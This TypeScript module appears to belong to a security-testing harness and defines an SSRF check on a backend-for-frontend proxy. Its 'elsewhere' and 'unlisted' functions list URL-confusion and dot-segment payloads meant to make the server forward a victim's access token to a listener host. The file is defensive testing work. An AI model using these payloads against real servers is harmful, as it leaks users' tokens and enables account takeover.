import type { HttpRequest } from '../../exchange.ts';
import type { Attack, Judgement } from '../../kinds/attack.ts';
import { type Attempt, judgeAttempts } from '../../kit/evidence/attempts.ts';
import { readCompact } from '../../kit/tokens/compact-token.ts';
import { openListener } from '../../kit/tokens/listener.ts';
import type { Stage } from '../../stage.ts';

type Seen = {
  readonly attempts: readonly Attempt[];
  /** Requests that the target made to the listener, with a token or without. */
  readonly callbacks: number;
  /** Whether what is on the list was answered before and after. */
  readonly listed: boolean;
};

export default {
  kind: 'attack',
  id: 'bff-forward-target',
  title: 'Request that is forwarded elsewhere',
  question: 'Does the server ask the resource server alone, and there for what is on its list alone?',
  goal: 'Make the server send the access token of the victim to an address of theirs, or ask for what it was not to be asked for.',
  precondition: 'injected-script',
  severity: 'critical',
  references: ['CWE-918', 'CWE-441', 'RFC 10017 §6.1.3.6', 'RFC 3986 §5.2.2', 'ASVS 1.3.6'],
  steps: [
    'The victim signs in. The attacker listens on a loopback port, and a script of theirs asks in the page of the victim, or a link does.',
    'It asks for paths that become another host where they are joined with the address of the resource server: with two slashes, backslashes, an at sign, a whole address; and for one with the address in a parameter or in the path.',
    'It asks for paths that are on the list once they are resolved, and not as they stand.',
    'The tokens that reached the listener are read, and whom the answers speak for.',
  ],
  fix: 'Take the address of the resource server from your configuration alone. Resolve the path first, and forward only what is then on a fixed list.',
  controls: ['bff-forwards-anything'],
  appliesTo: ({ behind }) => behind === 'resource-server' || 'nothing is asked in the name of a user',
  expected: () => 'blocked',

  async attempt(stage) {
    const { victim } = stage;
    await using listener = await openListener('{}', 'application/json');
    const held = await stage.signIn(victim);
    const isListed = async () => (await stage.whoAmI(held)) === victim.id;
    const before = await isListed();
    const request = stage.request('me', { as: held });
    const attempts: Attempt[] = [];
    const resolved = unlisted(request.path);
    for (const path of [...elsewhere(new URL(listener.url).host), ...resolved]) {
      const known = listener.authorizations().length;
      // as it stands: clients resolve what they are asked for
      const { statuses, text } = await stage.raw(bytes({ ...request, path }));
      const [status = 0] = statuses;
      const token = listener
        .authorizations()
        .slice(known)
        .find((sent) => speaksFor(sent, stage));
      // a whole address is the server's own way to be asked for a path (RFC 9112 §3.2.2)
      const isAnswered =
        resolved.includes(path) &&
        stage.target.protocol.steps.me.ok.includes(status) &&
        text.includes(`"${victim.id}"`);
      const got = token ? 'the access token of the victim' : isAnswered && 'an answer for the victim';
      attempts.push({ way: shown(path, listener.url), status, ...(got && { got }) });
    }
    return { attempts, callbacks: listener.requests(), listed: before && (await isListed()) };
  },

  judge({ attempts, callbacks, listed }): Judgement {
    const judgement = judgeAttempts(attempts, 'requests for what is not on the list');
    if (judgement.outcome !== 'blocked') return judgement;
    if (callbacks > 0)
      return {
        ...judgement,
        outcome: 'succeeded',
        because: `the server made ${callbacks} requests to an address of the attacker, without a token of the victim`,
      };
    return listed
      ? judgement
      : { ...judgement, outcome: 'inconclusive', because: 'what is on the list was not answered before and after' };
  },
} satisfies Attack<Seen>;

function bytes({ method, path, headers }: HttpRequest): string {
  const lines = Object.entries({ ...headers, connection: 'close' }).map(([name, value]) => `${name}: ${value}\r\n`);
  return `${method} ${path} HTTP/1.1\r\n${lines.join('')}\r\n`;
}

/** Paths that are another host's where somebody joins addresses, or takes one from a parameter. */
function elsewhere(host: string): string[] {
  return [
    `//${host}/me`,
    `http://${host}/me`,
    `///${host}/me`,
    `/\\${host}/me`,
    `/%5c${host}/me`,
    `//user@${host}/me`,
    `/@${host}/me`,
    `/me@${host}/`,
    `/proxy?url=http://${host}/me`,
    `/proxy/http://${host}/me`,
    `/api//${host}/me`,
  ];
}

/** What resolves to a path on the list, and is none as it stands. */
function unlisted(path: string): string[] {
  return [`/x/..${path}`, `/.${path}`, `/x/%2e%2e${path}`, `/%2e${path}`];
}

function speaksFor(authorization: string, { victim }: Stage): boolean {
  try {
    return readCompact(authorization.replace(/^\w+ /, '')).payload.sub === victim.id;
  } catch {
    return false;
  }
}

/** The port of the listener is another one in each run. */
function shown(path: string, url: string): string {
  return path.replaceAll(new URL(url).host, 'listener');
}
